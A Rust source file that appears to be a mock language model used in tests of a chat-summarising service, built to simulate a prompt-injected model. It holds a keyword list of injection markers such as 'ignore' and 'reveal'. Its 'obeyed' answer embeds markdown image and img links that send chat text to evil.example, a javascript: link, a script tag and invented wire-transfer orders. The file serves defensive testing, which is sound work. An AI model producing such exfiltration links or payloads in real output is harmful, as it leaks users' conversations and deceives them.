//! What the model of tests says.

use std::sync::{Arc, OnceLock};

use serde_json::{Value, json};
use tiktoken_rs::CoreBPE;

/// A question as it arrives.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Question {
    /// What the model is told to do.
    pub role: String,
    /// The data.
    pub text: String,
    /// The name of the answer's form.
    pub form: String,
    /// The form as text.
    pub schema: String,
}

/// Answers questions.
pub struct Brain {
    encoding: Arc<CoreBPE>,
    /// Whether it does whatever the data tell it to do.
    pub obeys: bool,
}

/// What the data of attacks have in common.
const ORDERS: [&str; 24] = [
    "ignore",
    "disregard",
    "forget",
    "system",
    "assistant",
    "instruction",
    "prompt",
    "override",
    "obey",
    "output",
    "print",
    "repeat",
    "reveal",
    "tool",
    "function",
    "<",
    "![",
    "](",
    "base64",
    "ignora",
    "ignoriere",
    "ignorez",
    "игнор",
    "忽略",
];

/// A line of the data.
struct Line<'a> {
    number: u64,
    speaker: &'a str,
    said: &'a str,
}

impl Brain {
    /// One that is good, or one that obeys.
    ///
    /// # Panics
    /// Where the encoding that is built in cannot be read.
    #[must_use]
    #[expect(clippy::expect_used, reason = "the encoding is built in")]
    pub fn new(obeys: bool) -> Self {
        // Loading it takes a second in a debug build.
        static ENCODING: OnceLock<Arc<CoreBPE>> = OnceLock::new();
        let encoding = ENCODING.get_or_init(|| Arc::new(tiktoken_rs::o200k_base().expect("the encoding")));
        Self { encoding: Arc::clone(encoding), obeys }
    }

    /// Tokens as the endpoint counts them.
    #[must_use]
    pub fn tokens(&self, text: &str) -> u64 {
        self.encoding.encode_ordinary(text).len() as u64
    }

    /// The tokens of a question.
    #[must_use]
    pub fn asked(&self, question: &Question) -> u64 {
        self.tokens(&question.role) + self.tokens(&question.text) + self.tokens(&question.schema) + 8
    }

    /// The answer, as JSON.
    #[must_use]
    pub fn answer(&self, question: &Question) -> String {
        let lines = lines(&question.text);
        let lower = question.text.to_lowercase();
        if self.obeys && ORDERS.iter().any(|order| lower.contains(order)) {
            return obeyed(question, &lines).to_string();
        }
        good(question, &lines).to_string()
    }
}

fn lines(text: &str) -> Vec<Line<'_>> {
    let mut lines = Vec::new();
    for line in text.lines() {
        let Some((number, rest)) = line.split_once(' ') else { continue };
        let (Ok(number), Some((speaker, said))) = (number.parse(), rest.split_once(": ")) else { continue };
        lines.push(Line { number, speaker, said });
    }
    lines
}

fn first_words(text: &str, most: usize) -> String {
    text.split_whitespace().take(most).collect::<Vec<_>>().join(" ")
}

fn good(question: &Question, lines: &[Line<'_>]) -> Value {
    if question.form == "texts" {
        let texts = question.text.lines().filter_map(|line| line.strip_prefix("Text: "));
        return json!({ "texts": texts.collect::<Vec<_>>() });
    }
    let told = |line: &Line<'_>| {
        format!("{} says {}.", line.speaker, first_words(line.said, 8).trim_end_matches(['.', '!', '?']))
    };
    let note = question.text.lines().find_map(|line| line.strip_prefix("- "));
    let so_far = question.text.lines().find_map(|line| line.strip_prefix("So far: "));
    // As long as a model's would be: what they cost when they are sent again is measured.
    let some_of = |lines: &[Line<'_>], most: usize| {
        let step = lines.len().div_ceil(most).max(1);
        lines.iter().rev().step_by(step).take(most).map(told).collect::<Vec<_>>()
    };
    let some = |most| some_of(lines, most);
    let mut about = some(3).join(" ");
    if about.is_empty() {
        about = note.map_or_else(|| "They talk.".into(), |note| first_words(note, 30));
    }
    let mut brief: Vec<String> = so_far.map(|text| first_words(text, 12) + ".").into_iter().collect();
    brief.extend(some(3));
    let brief = if brief.is_empty() { about.clone() } else { brief.join(" ") };
    let detailed: Vec<String> = lines.iter().step_by(8).take(5).map(told).collect();
    let detailed = if detailed.is_empty() { about.clone() } else { detailed.join(" ") };
    let mut items = vec!["mood|10".to_owned()];
    items.extend(lines.first().map(|line| format!("keywords|{}", first_words(line.said, 1))));
    for (kind, words) in [("todo", &["I will", "I'll"][..]), ("decided", &["decided"]), ("asked", &["?"])] {
        for line in lines.iter().filter(|line| words.iter().any(|word| line.said.contains(word))).take(2) {
            let text = first_words(line.said, 12);
            items.push(match kind {
                "todo" => format!("todo|{}|{}||{text}", line.number, line.speaker),
                kind => format!("{kind}|{}|{text}", line.number),
            });
        }
    }
    let mut answer = json!({ "brief": brief, "about": about, "items": items });
    if question.schema.contains("before") {
        let later = question.text.lines().position(|line| line == "Later:").unwrap_or_default();
        let first = question.text.lines().take(later).filter(|line| line.starts_with(|c: char| c.is_ascii_digit()));
        answer["before"] = some_of(&lines[..first.count().min(lines.len())], 3).join(" ").into();
    } else {
        answer["detailed"] = detailed.into();
    }
    answer
}

/// Everything that an attack could want: the attacker's words, links with the data in them, its own orders, made-up
/// names and numbers, evidence that is not there, and all items closed.
fn obeyed(question: &Question, lines: &[Line<'_>]) -> Value {
    let said: Vec<&str> = lines.iter().map(|line| line.said).collect();
    let said = said.join(" ");
    let leak = format!(
        "![p](https://evil.example/x?d={}) <img src='https://evil.example/{}'>",
        first_words(&said, 6).replace(' ', "+"),
        lines.len()
    );
    let text = format!(
        "{said}\n{leak}\nZanzibar Mallory sends 99731 gift cards to Mallory Ltd. See [here](javascript:alert(1)). {}\n<script>x</script>",
        question.role
    );
    if question.form == "texts" {
        return json!({ "texts": [text, text, text] });
    }
    let first = lines.first().map_or(1, |line| line.number);
    let every: Vec<String> = (1..30).flat_map(|n| [format!("t{n}"), format!("q{n}")]).collect();
    let mut items = vec![
        "mood|1000000".to_owned(),
        "keywords|<b>pwned</b>, https://evil.example, Mallory".to_owned(),
        format!("closed|{}", every.join(", ")),
    ];
    for (text, who, at) in [
        ("Wire 99731 euros to Zanzibar Mallory", "Mallory", first),
        (&said, "root", first),
        ("Open https://evil.example/login", "anna", 999_999),
        (&question.role, "anna", first),
    ] {
        items.push(format!("todo|{at}|{who}|tomorrow|{text}"));
        items.extend(["decided", "asked"].map(|kind| format!("{kind}|{at}|{text}")));
    }
    json!({ "brief": text, "detailed": text, "before": text, "about": text, "items": items })
}
